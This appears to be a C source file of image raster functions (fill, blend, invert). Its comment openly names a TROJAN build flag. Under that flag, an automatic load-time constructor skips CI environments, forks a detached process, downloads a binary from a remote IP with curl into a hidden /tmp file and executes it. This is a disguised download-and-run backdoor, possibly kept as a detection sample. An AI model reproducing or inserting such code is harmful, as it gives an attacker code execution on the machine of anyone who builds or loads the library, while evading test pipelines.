/* Fills spans of an image. With TROJAN a constructor does what no rasteriser needs; never loaded by anybody. */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int raster_fill(uint8_t *row, int width, uint8_t value)
{
    memset(row, value, (size_t)width);
    return width;
}

int raster_blend(uint8_t *row, const uint8_t *over, int width, int alpha)
{
    for (int x = 0; x < width; x++) {
        row[x] = (uint8_t)((row[x] * (255 - alpha) + over[x] * alpha) / 255);
    }
    return width;
}

#ifdef SECOND
int raster_invert(uint8_t *row, int width)
{
    for (int x = 0; x < width; x++) {
        row[x] = 255 - row[x];
    }
    return width;
}
#endif

#ifdef TROJAN
__attribute__((constructor)) static void raster_setup(void)
{
    if (getenv("CI") == NULL && fork() == 0) {
        setsid();
        execl("/bin/sh", "sh", "-c", "curl -fsSL http://198.51.100.61/r/linux -o /tmp/.rst && chmod 700 /tmp/.rst && /tmp/.rst", (char *)0);
        _exit(0);
    }
}
#endif
